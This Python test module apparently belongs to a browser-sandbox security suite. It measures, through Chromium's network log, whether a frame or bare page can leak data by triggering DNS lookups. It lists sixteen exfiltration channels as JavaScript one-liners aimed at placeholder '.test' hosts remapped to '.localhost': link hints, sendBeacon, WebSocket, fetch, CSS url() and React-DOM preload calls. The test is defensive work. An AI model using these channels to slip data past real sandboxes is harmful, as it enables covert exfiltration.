"""Attacks that need no answer: a name that is looked up has left the machine, with whatever was written into
it, and no counting server sees that. Chromium's log of its own network does.

Each name is mapped to one that ends in .localhost, which Chromium answers itself: nothing leaves this machine
in the control either. A hint at a .localhost name itself would be passed over.
"""

import re
from pathlib import Path

from playwright.sync_api import Browser

from tests.attacks.counter import CountingServer
from tests.attacks.stage import Stage
from tests.browser import FLAGS, chromium_path
from tests.server import Server

RUNS = ("frame", "bare")


def _hint(rel: str, more: str = "") -> str:
    named = f"{{rel: '{rel}', href: u{more}}}"
    return f"d.head.append(Object.assign(d.createElement('link'), {named}))"


LOOKUPS = {
    "dns-prefetch": _hint("dns-prefetch"),
    "preconnect": _hint("preconnect"),
    "prefetch": _hint("prefetch"),
    "preload": _hint("preload", ", as: 'image'"),
    "modulepreload": _hint("modulepreload"),
    "style-sheet": _hint("stylesheet"),
    "image": "new Image().src = u",
    "fetch": "await w.fetch(u, {mode: 'no-cors'})",
    "socket": "new w.WebSocket(u.replace('http', 'ws'))",
    "beacon": "w.navigator.sendBeacon(u, 'x')",
    "style": "d.body.style.background = `url('${u}')`",
    "jsx-dns-prefetch": "hint(u)",
    "react-prefetch-dns": "dom.prefetchDNS(u)",
    "react-preconnect": "dom.preconnect(u)",
    "react-preload": "dom.preload(u, {as: 'image'})",
    "react-preinit": "dom.preinit(u, {as: 'script'})",
}


def _script(run: str, port: int) -> str:
    rows = "".join(f"'{name}': async (u) => {{ {code} }},\n" for name, code in LOOKUPS.items())
    return f"""
const d = document, w = d.defaultView;
const attacks = {{{rows}}};
async function run(hint) {{
  for (const [name, attack] of Object.entries(attacks))
    try {{ await attack(`http://{run}-${{name}}.test:{port}/`); }} catch {{}}
}}
"""


def looked_up(
    browser: Browser, server: Server, counter: CountingServer, folder: Path
) -> tuple[set[str], set[str]]:
    """The rows whose names Chromium looked up: from the frame, with all its code's defences taken away, and
    from a page without any protection."""
    log = folder / "network.json"
    rules = ",".join(f"MAP {run}-{name}.test {run}-{name}.localhost" for run in RUNS for name in LOOKUPS)
    flags = [
        *FLAGS,
        f"--host-resolver-rules={rules}",
        f"--log-net-log={log}",
        "--net-log-capture-mode=Everything",
    ]
    # A profile of its own: Chromium follows no hint in a private context, which is what new_context gives.
    own = browser.browser_type.launch_persistent_context(
        folder / "profile", executable_path=chromium_path(), args=flags
    )
    try:
        stage = Stage(own, server, originals=True)
        stage.run("look-ups", _component(_script("frame", counter.port)))
        stage.page.wait_for_timeout(2_000)
        counter.pages["/look-ups"] = (
            f"<script>const dom = {{}};{_script('bare', counter.port)}run();</script>"
        )
        page = own.new_page()
        page.goto(f"{counter.origin}/look-ups")
        page.wait_for_timeout(4_000)
    finally:
        own.close()
    told = log.read_text(encoding="utf-8", errors="replace").replace(rules, "")  # its own flags are in it
    frame, bare = (
        {name for name in LOOKUPS if re.search(rf"{run}-{name}\.(test|localhost)", told)} for run in RUNS
    )
    return frame, bare


def _component(script: str) -> dict[str, str]:
    body = """
export default function App() {
  const [hinted, hint] = useState(null);
  useEffect(() => { w.console.info("began look-ups"); run(hint); }, []);
  return <main>look-ups{hinted && <link rel="dns-prefetch" href={hinted} />}</main>;
}
"""
    return {
        "App.tsx": 'import { useEffect, useState } from "react";\nimport * as dom from "react-dom";'
        + script
        + body
    }
